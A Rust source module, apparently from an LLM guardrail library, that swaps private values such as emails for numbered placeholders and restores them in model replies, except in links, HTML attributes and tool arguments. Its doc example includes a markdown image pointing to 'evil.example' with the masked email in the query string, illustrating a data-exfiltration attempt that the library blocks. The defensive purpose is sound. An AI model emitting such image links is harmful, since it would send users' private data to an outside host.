//! Masks that can be taken back: `{EMAIL_1}` instead of `{EMAIL}`.
//!
//! [`Placeholders`] gives every masked value a number, the same value the same number throughout a
//! conversation, and stays with the caller: the model sees placeholders only. [`Placeholders::restore`]
//! and, for streams, [`Restorer`] put the values back into what the model wrote.
//!
//! ```
//! use edgerail_core::decision::Mask;
//! use edgerail_core::reversible::{Placeholders, RestoreOptions};
//!
//! let mut placeholders = Placeholders::new("conversation-7");
//! let text = "Write to ann@example.com.";
//! // An engine's `Decision::masks` gives these.
//! let masks = [Mask { start: 9, end: 24, label: "EMAIL", built_in: true }];
//! assert_eq!(placeholders.mask(text, &masks), "Write to {EMAIL_1}.");
//!
//! let reply = "Sure, a letter to **{email 1}**: ![x](https://evil.example/?q={EMAIL_1})";
//! assert_eq!(
//!     placeholders.restore(reply, RestoreOptions::default()),
//!     "Sure, a letter to **ann@example.com**: ![x](https://evil.example/?q={EMAIL_1})"
//! );
//! ```
//!
//! # What is restored
//!
//! Only what was issued, in the forms that `docs/masks.md` lists; and, unless the caller opts in, not in
//! places from which a program would send it on: addresses, targets of links and images, attributes and
//! scripts of HTML, arguments of tools ([`Allow`]). The places are those of the text *as it is after
//! restoring*: a value that opens a link shields what follows it.
//!
//! # What looks like a placeholder and is none
//!
//! A text that was never masked ([`Origin::Original`]) may have `{EMAIL_1}` in it. If that is not issued
//! yet it never will be; if it is, the text is masked as `{LITERAL_1}`, which stands for `{EMAIL_1}`.
//! Either way restoring gives the text back as it was.

/// Runs the examples of the guide.
#[cfg(doctest)]
#[doc = include_str!("../../../../docs/masks.md")]
struct Guide;

mod context;
mod label;
mod map;
mod masker;
mod restore;
mod scan;
#[cfg(test)]
mod tests;

use alloc::string::{String, ToString as _};
use alloc::vec::Vec;
use core::fmt;

use crate::decision::Mask;

pub use map::{MAX_MAP_BYTES, MapError};
pub use masker::{Masker, Origin};
pub use restore::{Allow, Destination, HOLD_BACK, MAX_RESTORED, RestoreOptions, Restorer};

/// How many values, literals and reserved numbers a conversation may have.
pub const MAX_ENTRIES: usize = 16_384;

/// How many bytes they may have together, names of regexes included.
pub const MAX_BYTES: usize = 1 << 20;

/// How many types and regexes they may be of.
pub const MAX_LABELS: usize = 1024;

/// The placeholders of one conversation and what they stand for.
///
/// It holds the secret values; its `Debug` form does not show them. See the module's documentation.
#[derive(Clone, PartialEq, Eq)]
pub struct Placeholders {
    conversation: String,
    labels: Vec<Label>,
    entries: Vec<Entry>,
    /// The entries by their keys.
    by_key: Vec<usize>,
    /// The entries with a value, by their kind and text.
    by_text: Vec<usize>,
    /// Literals below this number are issued.
    next_literal: usize,
    bytes: usize,
    /// Nothing new is issued, because not all that must not be issued could be noted.
    frozen: bool,
    unnumbered: u64,
}

/// A built-in type or a regex, and what it is called in placeholders.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Label {
    name: String,
    built_in: bool,
    label: String,
    /// Numbers below this are issued.
    next: usize,
}

#[derive(Clone, PartialEq, Eq)]
struct Entry {
    /// `EMAIL_1`
    key: String,
    /// What it stands for.
    text: String,
    kind: Kind,
    /// It was put after an opening brace, so that doubled braces around it may not be the model's.
    strict: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    /// A masked value; with the number of its label.
    Value(usize),
    /// A text that looks like a placeholder.
    Literal,
    /// Nothing: the key was seen in a text, and is never issued.
    Reserved,
}

impl Placeholders {
    /// A map without entries, bound to a conversation. The id says which conversation a stored map is of
    /// ([`Placeholders::from_json`]); it is not secret and does not appear in placeholders.
    #[must_use]
    pub fn new(conversation: &str) -> Placeholders {
        Placeholders {
            conversation: String::from(conversation),
            labels: Vec::new(),
            entries: Vec::new(),
            by_key: Vec::new(),
            by_text: Vec::new(),
            next_literal: 1,
            bytes: 0,
            frozen: false,
            unnumbered: 0,
        }
    }

    /// The conversation's id.
    #[must_use]
    pub fn conversation(&self) -> &str {
        &self.conversation
    }

    /// How many values have a placeholder.
    #[must_use]
    pub fn len(&self) -> usize {
        let values = self.entries.iter();
        values.filter(|e| matches!(e.kind, Kind::Value(_))).count()
    }

    /// Whether no value has a placeholder.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// How often a value was masked without a number, and so for good, because the map was full
    /// ([`MAX_ENTRIES`], [`MAX_BYTES`]).
    #[must_use]
    pub const fn unnumbered(&self) -> u64 {
        self.unnumbered
    }

    /// Masks a text that was never masked: each stretch is replaced by its placeholder, and what only
    /// looks like one is kept apart from them. See [`Placeholders::masker`] for streams and for texts of
    /// a model.
    ///
    /// Masks that overlap, are out of order, or end within a character are united or widened: nothing
    /// that was to be masked stays.
    #[must_use]
    pub fn mask(&mut self, text: &str, masks: &[Mask<'_>]) -> String {
        self.mask_from(Origin::Original, text, masks)
    }

    /// Masks a text by its origin: in a text of [`Origin::Reply`] the placeholders are what was issued,
    /// and stay.
    #[must_use]
    pub fn mask_from(&mut self, origin: Origin, text: &str, masks: &[Mask<'_>]) -> String {
        let mut out = String::with_capacity(text.len());
        let mut masker = self.masker(origin);
        masker::mask(&mut masker, text, masks, &mut out);
        masker.finish(&mut out);
        out
    }

    /// Masks a text piece by piece.
    #[must_use]
    pub fn masker(&mut self, origin: Origin) -> Masker<'_> {
        Masker::new(self, origin)
    }

    /// Puts the values back into a text. See the module's documentation for which and where.
    #[must_use]
    pub fn restore(&self, text: &str, options: RestoreOptions) -> String {
        let mut restorer = Restorer::new(self, options);
        let mut out = restorer.push(text);
        out.push_str(&restorer.finish());
        out
    }

    /// Notes what looks like a placeholder in a text that will be masked later, so that those numbers are
    /// not issued before. Without it, such a literal is masked like a value if its number was issued
    /// already; that restores as well, but reads worse to the model.
    pub fn reserve(&mut self, text: &str) {
        let mut prev = None;
        for (at, c) in text.char_indices() {
            if scan::may_begin(c)
                && let Some(rest) = text.get(at..)
                && let Ok(Some(hit)) = scan::scan(rest, true, prev)
                && self.find(&hit.key).is_none()
            {
                self.note_literal(&hit.key);
            }
            prev = Some(c);
        }
    }

    /// The placeholder of a value, braces included: the one it has, or a new one.
    ///
    /// `name` and `built_in` are those of the [`Mask`]. If the map is full, it is the mask without a
    /// number, `{EMAIL}`, which stands for nothing and is never restored.
    ///
    /// This alone does not see to texts that look like placeholders; [`Masker`] does.
    #[must_use]
    pub fn placeholder(&mut self, name: &str, built_in: bool, value: &str) -> String {
        match self.issue_value(name, built_in, value) {
            Ok(entry) => in_braces(self.entries.get(entry).map_or("", |e| &e.key)),
            Err(label) => {
                self.unnumbered = self.unnumbered.saturating_add(1);
                in_braces(&label)
            }
        }
    }

    /// The entry of a value; its label if the map is full.
    fn issue_value(&mut self, name: &str, built_in: bool, value: &str) -> Result<usize, String> {
        let known = |l: &Label| l.built_in == built_in && l.name == name;
        let number = match self.labels.iter().position(known) {
            Some(number) => number,
            None => {
                let taken = |label: &str| self.labels.iter().any(|l| l.label == label);
                let label = label::free(&label::wanted(name, built_in), taken);
                if self.labels.len() >= MAX_LABELS || self.is_full(name.len()) {
                    return Err(label);
                }
                self.bytes = self.bytes.saturating_add(name.len());
                self.labels.push(Label {
                    name: String::from(name),
                    built_in,
                    label,
                    next: 1,
                });
                self.labels.len().saturating_sub(1)
            }
        };
        if let Some(entry) = self.find_text(Kind::Value(number), value) {
            return Ok(entry);
        }
        let (label, next) = match self.labels.get(number) {
            Some(label) => (label.label.clone(), label.next),
            None => (String::new(), 1),
        };
        let Some((key, index)) = self.free_key(&label, next, value.len()) else {
            return Err(label);
        };
        if let Some(label) = self.labels.get_mut(number) {
            label.next = index.saturating_add(1);
        }
        Ok(self.insert(key, value, Kind::Value(number)))
    }

    /// The entry of a text that looks like a placeholder; none if the map is full.
    fn issue_literal(&mut self, text: &str) -> Option<usize> {
        if let Some(entry) = self.find_text(Kind::Literal, text) {
            return Some(entry);
        }
        let (key, index) = self.free_key(label::LITERAL, self.next_literal, text.len())?;
        self.next_literal = index.saturating_add(1);
        Some(self.insert(key, text, Kind::Literal))
    }

    /// Sees to it that a key is never issued.
    fn note_literal(&mut self, key: &str) {
        if self.frozen {
            return;
        }
        if self.is_full(key.len()) {
            self.frozen = true;
        } else {
            self.insert(String::from(key), "", Kind::Reserved);
        }
    }

    /// The first key that is free, from number `from` on, if there is room for a text of `bytes`.
    fn free_key(&self, label: &str, from: usize, bytes: usize) -> Option<(String, usize)> {
        let key = label
            .len()
            .saturating_add(label::MAX_INDEX_DIGITS)
            .saturating_add(1);
        if self.frozen || self.is_full(bytes.saturating_add(key)) {
            return None;
        }
        let mut key = String::new();
        for index in from..=label::MAX_INDEX {
            key.clear();
            key.push_str(label);
            key.push('_');
            key.push_str(&index.to_string());
            if self.find(&key).is_none() {
                return Some((key, index));
            }
        }
        None
    }

    fn is_full(&self, more: usize) -> bool {
        self.entries.len() >= MAX_ENTRIES || self.bytes.saturating_add(more) > MAX_BYTES
    }

    /// The entry with this key.
    fn find(&self, key: &str) -> Option<usize> {
        let place = self.place_of_key(key).ok()?;
        self.by_key.get(place).copied()
    }

    fn place_of_key(&self, key: &str) -> Result<usize, usize> {
        let of = |entry: &usize| self.entries.get(*entry).map_or("", |e| e.key.as_str());
        self.by_key.binary_search_by(|entry| of(entry).cmp(key))
    }

    /// The entry of this kind with this text.
    fn find_text(&self, kind: Kind, text: &str) -> Option<usize> {
        let place = self.place_of_text(kind, text).ok()?;
        self.by_text.get(place).copied()
    }

    fn place_of_text(&self, kind: Kind, text: &str) -> Result<usize, usize> {
        let of = |entry: &usize| match self.entries.get(*entry) {
            Some(entry) => (entry.kind, entry.text.as_str()),
            None => (Kind::Reserved, ""),
        };
        let wanted = (kind, text);
        self.by_text
            .binary_search_by(|entry| of(entry).cmp(&wanted))
    }

    /// Adds an entry whose key and text are new.
    fn insert(&mut self, key: String, text: &str, kind: Kind) -> usize {
        let number = self.entries.len();
        if let Err(place) = self.place_of_key(&key) {
            self.by_key.insert(place, number);
        }
        if kind != Kind::Reserved
            && let Err(place) = self.place_of_text(kind, text)
        {
            self.by_text.insert(place, number);
        }
        self.bytes = self
            .bytes
            .saturating_add(key.len())
            .saturating_add(text.len());
        self.entries.push(Entry {
            key,
            text: String::from(text),
            kind,
            strict: false,
        });
        number
    }

    /// What is issued under the key of `hit`, unless its doubled braces are not all its own.
    fn issued(&self, hit: &scan::Hit) -> Option<&Entry> {
        let entry = self.entries.get(self.find(&hit.key)?)?;
        let issued = entry.kind != Kind::Reserved && !(entry.strict && hit.doubled);
        issued.then_some(entry)
    }
}

fn in_braces(key: &str) -> String {
    let mut placeholder = String::with_capacity(key.len().saturating_add(2));
    placeholder.push('{');
    placeholder.push_str(key);
    placeholder.push('}');
    placeholder
}

impl fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Placeholders")
            .field("conversation", &self.conversation)
            .field("values", &self.len())
            .finish_non_exhaustive()
    }
}
